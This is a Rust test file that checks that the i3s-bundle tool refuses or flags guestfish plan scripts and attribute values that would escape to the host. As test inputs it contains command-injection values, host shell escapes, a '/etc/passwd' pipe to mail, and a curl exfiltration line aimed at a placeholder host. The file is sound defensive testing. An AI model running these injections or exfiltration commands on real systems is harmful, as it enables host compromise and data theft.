//! A bundle never reaches the host (issue #19 item 1): `run` refuses host-escaping plan scripts
//! and attribute values that change a plan script's commands before launching anything; `build`,
//! `verify` and `lint` report host-escaping constructs as errors. These tests need no guestfish:
//! the refusal happens before it would start (the real-guestfish counter-check, where
//! `--allow-host-commands` really runs `!touch`, is in `image_guestfish.rs`).
use assert_cmd::Command;
use i3s_bundle::bundle::write::write_bundle;
use i3s_bundle::bundle::{
    AttributeType, BuildPlan, BuildStep, Bundle, ChecksumFlavour, CustomAttribute, Manifest,
    PlanScript,
};
use i3s_bundle::guestfish::substitute::{Refusal, substitute};
use std::path::{Path, PathBuf};

fn bin() -> Command {
    Command::cargo_bin("i3s-bundle").unwrap()
}

/// A bundle with one deploy build plan "P": mount, the given step, umount; attribute X (string).
fn bundle_with_step(content: &str) -> Bundle {
    let scripts: Vec<PlanScript> = ["mount /dev/cl/root /", content, "umount /"]
        .iter()
        .enumerate()
        .map(|(i, c)| {
            PlanScript::new(
                format!("00000000-0000-4000-8000-{i:012}"),
                format!("step{i}"),
                String::new(),
                if i == 1 { "deploy" } else { "general" },
                c.to_string(),
            )
        })
        .collect();
    let mut plan = BuildPlan::new(
        "00000000-0000-4000-9000-000000000000".into(),
        "P".into(),
        String::new(),
        "deploy",
    );
    plan.steps = scripts
        .iter()
        .enumerate()
        .map(|(i, s)| BuildStep::new(i + 1, s))
        .collect();
    let mut x = CustomAttribute::new("X", AttributeType::String);
    x.value = Some("plain".into());
    plan.custom_attributes = vec![x];
    Bundle {
        manifest: Manifest::new("hostile", "", false, "2026-11-30T00:00:00.000Z".into()),
        checksum: ChecksumFlavour::Sha256,
        plan_scripts: scripts,
        golden_images: Vec::new(),
        build_plans: vec![plan],
        deployment_plans: Vec::new(),
    }
}

fn write(dir: &Path, name: &str, step: &str) -> PathBuf {
    let path = dir.join(name);
    write_bundle(&bundle_with_step(step), &path).unwrap();
    path
}

/// `run` on a bundle: exit code, stderr. The image exists (an empty file): nothing may open it.
fn run(bundle: &Path, image: &Path, extra: &[&str]) -> (i32, String) {
    let out = bin()
        .arg("run")
        .arg(bundle)
        .arg("P")
        .arg("--image")
        .arg(image)
        .args(extra)
        .env("PATH", "/nonexistent") // no guestfish: if anything tried to launch, it would fail differently
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn run_refuses_an_attribute_value_that_would_pipe_to_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let image = dir.path().join("disk.img");
    std::fs::write(&image, b"").unwrap();
    // The placeholder stands on a command line, as in a careless plan script.
    let bundle = write(dir.path(), "b.zip", "mkdir-p @X@");
    let value = format!("X=/opt | touch {}", marker.display());
    let (code, stderr) = run(&bundle, &image, &["--attr", &value]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("the value of attribute X would change the plan script's commands")
            && stderr.contains("`mkdir-p` gets a `|`")
            && stderr.contains("nothing was run")
            && stderr.contains("b.zip!00000000-0000-4000-8000-000000000001_planscript.json:1:9"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("touch"),
        "the value is not echoed: {stderr}"
    );
    assert!(!marker.exists(), "a host file was created");
    // A quote that closes the argument early is refused the same way.
    let (code, stderr) = run(&bundle, &image, &["--attr", "X=\"a\" \"b"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("attribute X"), "{stderr}");
}

#[test]
fn run_refuses_host_shell_lines_pipes_and_host_files_in_plan_scripts() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let image = dir.path().join("disk.img");
    std::fs::write(&image, b"").unwrap();
    let m = marker.display();
    for (step, construct) in [
        (format!("!touch {m}"), "`!` runs a host shell command"),
        (
            format!("<!echo '!touch {m}'"),
            "`<!` runs a host shell command and then its output",
        ),
        (
            format!("cat /etc/hostname | touch {m}"),
            "`|` pipes the command's output into a host shell command",
        ),
        (
            format!("download /etc/hostname {m}"),
            "`download` reads or writes the host file",
        ),
        (
            format!("upload {m} /etc/x"),
            "`upload` reads or writes the host file",
        ),
        (
            "lcd /".to_string(),
            "`lcd` changes guestfish's host directory",
        ),
        ("setenv EDITOR /bin/sh".to_string(), "`setenv` changes"),
    ] {
        let bundle = write(dir.path(), "b.zip", &step);
        let (code, stderr) = run(&bundle, &image, &[]);
        assert_eq!(code, 2, "{step}: {stderr}");
        assert!(
            stderr.contains(construct)
                && stderr.contains("_planscript.json:1: step 2 (step1)")
                && stderr.contains("nothing was run")
                && stderr.contains("--allow-host-commands"),
            "{step}: {stderr}"
        );
        assert!(!marker.exists(), "{step}: a host file was created");
    }
}

#[test]
fn verify_and_lint_report_host_escapes_as_errors() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = write(dir.path(), "b.zip", "!id\ncat /etc/passwd | mail x");
    let out = bin().arg("verify").arg(&bundle).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("plan script \"step1\" line 1: `!` runs a host shell command (`id`)")
            && stdout.contains("line 2: `|` pipes"),
        "{stdout}"
    );
    let out = bin()
        .args(["lint", "--no-cache", "--format", "json"])
        .arg(&bundle)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let rules: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "error")
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert_eq!(
        rules.iter().filter(|r| **r == "I3S044").count(),
        2,
        "{stdout}"
    );
    // A clean bundle verifies clean (the check is not a blanket refusal).
    let clean = write(
        dir.path(),
        "clean.zip",
        "upload -<<END /etc/motd\n!not a command\nEND",
    );
    bin().arg("verify").arg(&clean).assert().success();
}

#[test]
fn build_refuses_a_template_that_reaches_the_host_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("p");
    bin().arg("init").arg(&root).assert().success();
    let template = root.join("templates/hostname.j2");
    let text = std::fs::read_to_string(&template).unwrap();
    let line = text
        .lines()
        .position(|l| l.starts_with("echo \"hostname set\""))
        .unwrap()
        + 1;
    std::fs::write(
        &template,
        text.replace(
            "echo \"hostname set\"",
            "echo done | curl -d @- http://example.invalid",
        ),
    )
    .unwrap();
    let out = bin().current_dir(&root).arg("build").output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(&format!("templates/hostname.j2:{line}"))
            && stderr.contains("`|` pipes the command's output into a host shell command")
            && stderr.contains("I3S044"),
        "{stderr}"
    );
    assert!(
        !root.join("dist").exists()
            || std::fs::read_dir(root.join("dist"))
                .unwrap()
                .next()
                .is_none()
    );
}

/// Property: whatever the value, a substitution either is refused or leaves every command with
/// the structure it has with a plain word in place of the placeholder.
#[test]
fn no_value_changes_the_parsed_command_structure() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, TestRunner};
    let scripts = [
        "mkdir-p @X@",
        "write /etc/x \"@X@\"",
        "write /etc/x '@X@'",
        "-ln-sf /a/@X@ /b\nglob rm-f /tmp/@X@*",
        "upload -<<END /etc/x\n@X@\nEND\nchmod 0644 /etc/x",
        "upload -<<EOF /etc/@X@\na @X@ b\nEOF",
    ];
    let shape = |text: &str| {
        let parsed = i3s_bundle::guestfish::parse(text);
        let commands: Vec<_> = parsed
            .commands
            .iter()
            .map(|c| {
                (
                    c.line,
                    c.name.clone(),
                    c.args.len(),
                    c.heredoc.as_ref().map(|h| (h.tag.clone(), h.end_line)),
                    c.host_shell.is_some(),
                )
            })
            .collect();
        (commands, parsed.problems.len())
    };
    // Values drawn from guestfish's syntax characters and ordinary text.
    let value =
        proptest::string::string_regex("[a-zA-Z0-9 \t\"'|!<#@:/\\\\-]{0,12}|END|EOF").unwrap();
    let mut runner = TestRunner::new(Config {
        cases: 2000,
        failure_persistence: None,
        ..Config::default()
    });
    runner
        .run(&(0..scripts.len(), value), |(index, value)| {
            let script = scripts[index];
            let reference = shape(&script.replace("@X@", "plain"));
            match substitute(script, &|k| (k == "X").then(|| value.clone())) {
                Ok(text) => prop_assert_eq!(shape(&text), reference, "value {:?}", value),
                Err(Refusal::Structure { placeholders, .. }) => {
                    prop_assert_eq!(placeholders[0].name.as_str(), "X")
                }
                Err(other) => prop_assert!(false, "unexpected {:?}", other),
            }
            Ok(())
        })
        .unwrap();
}
